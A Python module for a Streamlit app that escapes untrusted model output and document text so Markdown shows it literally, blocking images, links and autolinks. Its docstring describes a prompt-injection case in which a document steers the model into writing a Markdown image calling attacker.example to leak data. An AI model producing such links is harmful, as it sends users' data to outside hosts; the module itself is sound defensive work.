"""Untrusted text (model output, document text and names, eval questions) as Markdown that shows it literally.

`literal` is the one way such text reaches a page: every st.markdown, alert, caption, label, help, spinner and progress
text that carries a value passes it through here (tests/test_untrusted_text.py checks the source of every page;
tests/test_browser_hostile.py checks what Chromium gets on every page).

Streamlit renders `st.markdown`, alert bodies, captions and widget labels as GitHub Markdown. A document can steer
the model into writing `![x](https://attacker.example/?q=…)`, and the browser then fetches that URL: data leaves
the machine (OWASP LLM02). Measured in Chromium on Streamlit 1.67 (tests/test_output_safety.py):

- backslash-escaping the punctuation Markdown acts on stops images, links, reference definitions, `<…>`
  autolinks, HTML, `:red[…]` directives, `:emoji:`, entities, `$…$` math, headings, lists and tables (`/`, `.` and
  the like stay as they are, so a path like kb/rhine.md reads the same in the page source);
- it does not stop GFM's literal autolinks (`https://…`, `www.…`, `a@b.c`): remark finds those in the text after
  the escapes are resolved. An invisible word joiner (U+2060) after `:`/`www`/`@` breaks the pattern, so they
  show as text, not links (copying one keeps the joiner: a URL from a document is not one click away).
"""

from __future__ import annotations

import html
import re

WORD_JOINER = "\u2060"
_ACTIVE = re.compile(r"([\\`*_{}\[\]()<>#+\-!|~$&=:])")
_LIST_NUMBER = re.compile(r"^(\s*\d+)\.", re.M)  # "1. " opens an ordered list
# GFM starts a www autolink after a space, `*`, `_`, `~` or `(`: "_www.host" was a link with `\b` in front of www
_AUTOLINK = re.compile(r"(?<=:)(?=//)|(?<=www)(?=\.)|(?<=@)", re.I)


def literal(text: str) -> str:
    """Markdown that renders as exactly `text` (plus invisible word joiners): no link, image, HTML or formatting.

    Line breaks are kept as hard breaks, so a multi-line answer reads as written.
    """
    unlinked = _AUTOLINK.sub(WORD_JOINER, text)
    escaped = _LIST_NUMBER.sub(r"\1\\.", _ACTIVE.sub(r"\\\1", unlinked))
    return escaped.replace("\n", "  \n")



def chart_literal(text: str) -> str:
    """Untrusted text for a Plotly label or hover: Plotly renders a subset of HTML there (`<a href>` becomes a link),
    so `<`, `>` and `&` are escaped as entities, which it shows as the characters themselves."""
    return html.escape(text, quote=False)
